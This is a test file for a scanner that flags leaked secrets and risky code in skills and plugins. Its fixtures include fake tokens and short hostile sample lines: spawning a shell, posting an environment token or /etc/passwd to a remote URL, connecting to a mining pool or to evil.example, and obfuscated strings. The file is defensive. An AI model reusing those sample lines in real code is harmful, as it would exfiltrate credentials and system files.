import { describe, expect, it } from "vitest";
import {
  CODE_RULES,
  findSecrets,
  isHighEntropyToken,
  scanCode,
  scanSecrets,
  scanSource,
} from "../../src/index";
import { buildFixture } from "./fixture";

describe("findSecrets (format detectors + entropy)", () => {
  it.each([
    ["github", "token ghp_0123456789abcdefghijABCDEFGHIJ0123456789 here"],
    ["openai", "OPENAI=sk-proj-abcdefghijklmnopqrstuvwxyz012345"],
    ["aws-access-key", "id AKIAIOSFODNN7EXAMPLE"],
    ["pem-private-key", "-----BEGIN RSA PRIVATE KEY-----\nMIIEow==\n-----END RSA PRIVATE KEY-----"],
    ["cli-flag", "run --api-key Zx81mQ04pLrT55wq"],
  ])("%s", (detector, text) => {
    expect(findSecrets(text).map((h) => h.detector)).toContain(detector);
  });

  it("reports lines, not values; masked values and ${VAR} references are not secrets", () => {
    const text =
      'a\nb\npassword = "ghp_0123456789abcdefghijABCDEFGHIJ0123456789"\ntoken=***\nkey: ${API_KEY}\n';
    const hits = findSecrets(text);
    expect(hits.every((h) => h.line === 3)).toBe(true);
    expect(JSON.stringify(hits)).not.toContain("ghp_");
  });

  it("entropy: random mixed tokens yes; hex digests, uuids and words no", () => {
    expect(isHighEntropyToken("Zq8Lr2Vx7Tn4Kp9Wm3Hc6Yb1Jd5Fs0GaXe8Ru2Qi7Ol")).toBe(true);
    expect(
      isHighEntropyToken("e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855"),
    ).toBe(false);
    expect(isHighEntropyToken("AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA1a")).toBe(false);
    expect(findSecrets("id 9f1c2d3e-4b5a-6978-8a9b-0c1d2e3f4a5b").map((h) => h.detector)).toEqual(
      [],
    );
  });

  it("a state dir scan is bounded: file count, findings, binaries skipped", async () => {
    const files: Record<string, { content: string }> = {};
    for (let i = 0; i < 12; i++)
      files[`logs/f${i}.log`] = { content: "ghp_0123456789abcdefghijABCDEFGHIJ0123456789\n" };
    files["logs/bin.dat"] = { content: "\u0000ghp_0123456789abcdefghijABCDEFGHIJ0123456789" };
    const fixture = await buildFixture({ files });
    try {
      const findings = await scanSecrets([{ dir: fixture.stateDir, label: "state dir" }], {
        maxFiles: 10,
        maxFileBytes: 1024,
        maxFindings: 5,
      });
      expect(findings.filter((f) => f.checkId === "secrets.plaintext_secret")).toHaveLength(5);
      expect(findings.map((f) => f.checkId)).toContain("secrets.scan_truncated");
      expect(findings.some((f) => f.location?.file.endsWith("bin.dat"))).toBe(false);
    } finally {
      await fixture.cleanup();
    }
  });
});

describe("skill and plugin code scanner", () => {
  const samples: Record<string, string> = {
    "dangerous-exec": 'import { spawn } from "node:child_process"; spawn("sh");',
    "dynamic-code-execution": "const f = new Function('return 1');",
    "crypto-mining": 'connect("stratum+tcp://pool.example:3333")',
    "env-harvesting": "const t = process.env.TOKEN; fetch('https://x', { body: t })",
    "potential-exfiltration":
      "const d = readFileSync('/etc/passwd'); fetch('https://x', { body: d })",
    "suspicious-network": "new WebSocket('ws://evil.example:6667')",
    "obfuscated-code": 'const s = "\\x68\\x65\\x6c\\x6c\\x6f\\x21";',
  };

  it.each(CODE_RULES.map((rule) => [rule.id, rule.severity] as const))(
    "%s (%s)",
    (id, severity) => {
      const hits = scanSource(`// header\n${samples[id]}\n`);
      expect(hits).toContainEqual({ rule: id, severity, line: 2 });
    },
  );

  it("plain code triggers nothing (standard WebSocket ports, a method named exec)", () => {
    for (const text of [
      "const ws = new WebSocket('wss://api.example:443'); ws.send(process.version);",
      "const re = /a/; re.exec('a'); spawnLater();",
      "export const x = JSON.parse(readFileSync('a.json', 'utf8'));",
      "const t = process.env.HOME; console.log(t);",
    ]) {
      expect(scanSource(text), text).toEqual([]);
    }
  });

  it("bounded: at most maxFiles files, oversized files reported, node_modules and .d.ts skipped", async () => {
    const files: Record<string, { content: string }> = {
      "skills/a/big.js": { content: `${"//".repeat(600)}\neval("x")` },
      "skills/a/node_modules/dep/index.js": { content: 'eval("x")' },
      "skills/a/types.d.ts": { content: 'declare function eval(x: string): void; eval("x")' },
    };
    for (let i = 0; i < 5; i++) files[`skills/b/f${i}.ts`] = { content: "export {}" };
    const fixture = await buildFixture({ files });
    try {
      const findings = await scanCode(
        [{ dir: `${fixture.stateDir}/skills`, kind: "skills", label: "skills" }],
        { maxFiles: 3, maxFileBytes: 1024 },
      );
      expect(findings.filter((f) => f.checkId === "skills.code_safety")).toEqual([]);
      const truncated = findings.find((f) => f.checkId === "skills.code_safety.scan_truncated");
      expect(truncated?.detail).toMatch(/more than 3 files.*1 file\(s\) over 1024 bytes/);
    } finally {
      await fixture.cleanup();
    }
  });
});
